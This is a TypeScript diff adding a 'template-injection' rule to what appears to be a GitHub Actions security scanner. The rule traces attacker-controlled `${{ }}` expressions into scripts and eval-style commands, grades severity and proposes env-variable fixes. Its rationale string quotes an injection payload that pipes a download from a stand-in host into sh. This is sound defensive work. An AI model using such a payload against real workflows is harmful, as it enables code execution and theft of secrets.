@@ -1,0 +1,206 @@
+/**
+ * `${{ }}` expansions of attacker-controlled text into code: `run:` scripts, `actions/github-script`
+ * `script:`, and other inputs that actions execute. Graded by how much of the text an attacker controls,
+ * by who can trigger the workflow and by what the job reaches; taint is followed across `env:`,
+ * `$GITHUB_ENV`, `$GITHUB_OUTPUT`, `steps.*.outputs` and `needs.*.outputs`.
+ */
+import type { Severity } from '../../model/finding.js'
+import { defineRule, type RuleResult } from '../../model/rule.js'
+import {
+  applyGates,
+  commands,
+  eventNames,
+  scriptLocation,
+  stepDoc,
+  strLocation,
+  expressionLocation,
+  forkReachable,
+  gatesFor,
+  privilegedUntrustedEvents,
+  trackerFor,
+  workflowModelFact,
+  type ActionDoc,
+  type Expression,
+  type Grade,
+  type Job,
+  type Step,
+  type Str,
+  type Taint,
+  type WorkflowDoc,
+  type WorkflowModel
+} from '../../workflow/index.js'
+import { dedupeResults, envReference, envVarName, reachOf, stepLabel } from '../../workflow/rule-helpers.js'
+
+/** Action inputs that are executed as code (action name → input names). */
+export const CODE_INPUTS = new Map<string, { inputs: string[]; language: 'shell' | 'javascript' }>([
+  ['actions/github-script', { inputs: ['script'], language: 'javascript' }],
+  ['azure/cli', { inputs: ['inlinescript'], language: 'shell' }],
+  ['azure/powershell', { inputs: ['inlinescript'], language: 'shell' }],
+  ['appleboy/ssh-action', { inputs: ['script'], language: 'shell' }],
+  ['nick-fields/retry', { inputs: ['command'], language: 'shell' }],
+  ['nick-invision/retry', { inputs: ['command'], language: 'shell' }],
+  ['wandalen/wretry.action', { inputs: ['command'], language: 'shell' }],
+  ['addnab/docker-run-action', { inputs: ['run'], language: 'shell' }],
+  ['jannekem/run-python-script-action', { inputs: ['script'], language: 'shell' }],
+  ['cypress-io/github-action', { inputs: ['build', 'start', 'command'], language: 'shell' }],
+  ['mathiasvr/command-output', { inputs: ['run'], language: 'shell' }]
+])
+
+interface Sink {
+  str: Str
+  step: Step
+  label: string
+  language: 'shell' | 'javascript'
+}
+
+function sinksOf(step: Step): Sink[] {
+  const sinks: Sink[] = []
+  if (step.run && step.run.expressions.length > 0) sinks.push({ str: step.run, step, label: 'run', language: 'shell' })
+  const code = step.uses ? CODE_INPUTS.get(step.uses.name) : undefined
+  if (code) {
+    for (const [name, entry] of step.with) {
+      if (code.inputs.includes(name.toLowerCase()) && entry.value && entry.value.expressions.length > 0) {
+        sinks.push({ str: entry.value, step, label: `${step.uses!.name} ${name}`, language: code.language })
+      }
+    }
+  }
+  return sinks
+}
+
+function describeTaint(taint: Taint): string {
+  const via = taint.via.length > 0 ? ` (via ${taint.via.join(' → ')})` : ''
+  return `${taint.origin}${via}`
+}
+
+/** The grade of one injection, before gates. */
+export function injectionGrade(taint: Taint, workflow: WorkflowDoc | null, job: Job | null, model: WorkflowModel): { grade: Grade; why: string } {
+  if (!workflow || !job) {
+    // Composite action: the caller decides what reaches its inputs.
+    if (taint.level === 'arbitrary') return { grade: 'high', why: 'in an action that any workflow may call' }
+    return { grade: 'low', why: 'from an action input: safe only if every caller passes trusted values' }
+  }
+  const privileged = privilegedUntrustedEvents(workflow, model)
+  const events = eventNames(workflow)
+  const reusable = events.has('workflow_call')
+  if (taint.level === 'arbitrary') {
+    if (privileged.length > 0) {
+      const reach = reachOf(job)
+      return reach.level === 'write' || reach.level === 'default'
+        ? { grade: 'critical', why: `on ${privileged.join(', ')}, with ${reach.text}` }
+        : { grade: 'high', why: `on ${privileged.join(', ')} (runs in the base repository's context)` }
+    }
+    if (reusable) return { grade: 'high', why: 'in a reusable workflow, with its caller\'s event and privileges' }
+    if (forkReachable(workflow)) return { grade: 'medium', why: 'on pull requests from forks (read-only token, no secrets)' }
+    if (/commit|message|author|committer|display_title/.test(taint.origin)) return { grade: 'medium', why: 'commit messages and authors come from merged contributions' }
+    return { grade: 'low', why: 'the workflow is not triggered by outsiders' }
+  }
+  if (taint.level === 'structured') {
+    if (privileged.length > 0 || reusable) return { grade: 'medium', why: 'attacker-influenced but constrained, or needs write access to set' }
+    if (forkReachable(workflow)) return { grade: 'low', why: 'attacker-influenced but constrained' }
+    return { grade: 'info', why: 'set only by users with write access (branch and tag names can still hold shell syntax)' }
+  }
+  if (taint.level === 'dynamic') return { grade: 'low', why: taint.origin.startsWith('github.') ? '(an event field without capability data: check whether outsiders can set it)' : '(a matrix value computed at run time)' }
+  if (reusable) return { grade: 'low', why: 'a reusable-workflow input: safe only if every caller passes trusted values' }
+  return { grade: 'info', why: 'a workflow_dispatch input (only users with write access can set it)' }
+}
+
+function fixFor(expression: Expression, taint: Taint, sink: Sink): string {
+  const path = taint.via.length > 0 ? (taint.via[taint.via.length - 1] ?? taint.origin) : taint.origin
+  const name = envVarName(/^(steps|needs|env)\./.test(path) || /^github\.|^inputs\.|^matrix\./.test(path) ? path : expression.body.trim())
+  const text = `\${{ ${expression.body.trim()} }}`
+  const reference = envReference(name, sink.step.effectiveShell, sink.language)
+  return [`env:`, `  ${name}: ${text}`, `${sink.label.replace(/^.*\s(\S+)$/, '$1')}: … ${reference} …   # instead of ${text}`].join('\n')
+}
+
+/** Commands that run their argument as code: `eval`, `sh -c`, `bash -c`, `Invoke-Expression`, `source <(...)`. */
+const EVALUATING = /^(?:eval\b|(?:ba|z|da|k)?sh\s+(?:-\w+\s+)*-c\b|pwsh\s+(?:-\w+\s+)*-c(?:ommand)?\b|powershell\s+(?:-\w+\s+)*-c(?:ommand)?\b|Invoke-Expression\b|iex\b|(?:source|\.)\s+<\()/i
+
+/**
+ * Tainted data that reaches a shell `eval` (or `sh -c`, `Invoke-Expression`) through variables: the env
+ * indirection does not help once the script evaluates the variable. Also in local scripts run by a step.
+ */
+function shellEvaluations(model: WorkflowModel): RuleResult[] {
+  const tracker = trackerFor(model)
+  const out: RuleResult[] = []
+  const report = (step: Step, taint: Taint, location: RuleResult['location'], text: string, where: string): void => {
+    const job = step.job
+    const { grade, why } = injectionGrade(taint, job?.workflow ?? null, job, model)
+    out.push({
+      status: 'fail',
+      severity: job ? applyGates(grade, gatesFor(job, step)) : grade,
+      message: `${stepLabel(step)}${where}: \`${text.length > 60 ? `${text.slice(0, 57)}...` : text}\` evaluates ${describeTaint(taint)} as code (${why.replace(/^\((.*)\)$/, '$1')})`,
+      ...(location ? { location } : {}),
+      fix: 'Do not eval untrusted data: pass it as an argument ("$VAR") to a fixed command.'
+    })
+  }
+  const steps: Step[] = []
+  for (const workflow of model.workflows) for (const job of workflow.jobs) steps.push(...job.steps)
+  for (const action of model.actions) steps.push(...(action.runs?.steps ?? []))
+  for (const step of steps) {
+    if (!step.run) continue
+    const site = { job: step.job, step, action: step.action }
+    for (const command of commands(step.run.value)) {
+      if (!EVALUATING.test(command.text)) continue
+      const taint = tracker.shellTaint(step, step.run.value, command.start, command.text, site)
+      if (taint) report(step, taint, strLocation(stepDoc(step), step.run, command.start, command.end), command.text, '')
+    }
+  }
+  for (const script of model.scripts.values()) {
+    const evaluating = commands(script.text).filter((command) => EVALUATING.test(command.text))
+    for (const step of script.callers) {
+      for (const command of evaluating) {
+        const taint = tracker.shellTaint(step, script.text, command.start, command.text, { job: step.job, step, action: step.action })
+        if (taint) report(step, taint, scriptLocation(script, command.start, command.end), command.text, ` (through ${script.path})`)
+      }
+    }
+  }
+  return out
+}
+
+export const templateInjection = defineRule({
+  meta: {
+    id: 'template-injection',
+    area: 'build',
+    severity: 'high',
+    title: 'Attacker-controlled text expanded into code',
+    rationale:
+      '`${{ }}` is substituted into the script before it runs, so a pull request title like `"; curl evil.sh | sh #` becomes code with the job\'s token and secrets. Passing the value through an environment variable makes it data.',
+    remediation: 'Move the expression into `env:` and use the variable (`"$PR_TITLE"`, `process.env.PR_TITLE`) in the script.',
+    references: ['zizmor: template-injection', 'https://docs.github.com/en/actions/concepts/security/script-injections', 'CWE-94'],
+    access: { token: 'none' }
+  },
+  needs: [workflowModelFact],
+  defaultOptions: {},
+  evaluate(ctx) {
+    const fact = ctx.fact(workflowModelFact)
+    if (!fact.known) return []
+    const model = fact.value
+    const tracker = trackerFor(model)
+    const results: RuleResult[] = []
+    const audit = (doc: WorkflowDoc | ActionDoc, job: Job | null, steps: Step[]): void => {
+      for (const step of steps) {
+        for (const sink of sinksOf(step)) {
+          for (const expression of sink.str.expressions) {
+            const taint = tracker.expressionTaint(expression, { job, step, action: doc.kind === 'action' ? doc : null })
+            if (!taint) continue
+            const { grade, why } = injectionGrade(taint, doc.kind === 'workflow' ? doc : null, job, model)
+            const gates = job ? gatesFor(job, step) : []
+            const severity: Severity = applyGates(grade, gates)
+            const gated = gates.length > 0 ? `; lowered because ${gates.map((g) => g.note).join(', ')}` : ''
+            results.push({
+              status: 'fail',
+              severity,
+              message: `${stepLabel(step)}: \`\${{ ${expression.body.trim()} }}\` expands ${taint.level === 'arbitrary' ? 'attacker-controlled text' : taint.level === 'input' ? 'an input' : 'partly attacker-influenced text'} from ${describeTaint(taint)} into \`${sink.label}\` (${why.replace(/^\((.*)\)$/, '$1')})${gated}`,
+              location: expressionLocation(doc, expression),
+              fix: fixFor(expression, taint, sink)
+            })
+          }
+        }
+      }
+    }
+    for (const workflow of model.workflows) for (const job of workflow.jobs) audit(workflow, job, job.steps)
+    for (const action of model.actions) if (action.runs) audit(action, null, action.runs.steps)
+    results.push(...shellEvaluations(model))
+    return dedupeResults(results)
+  }
+})
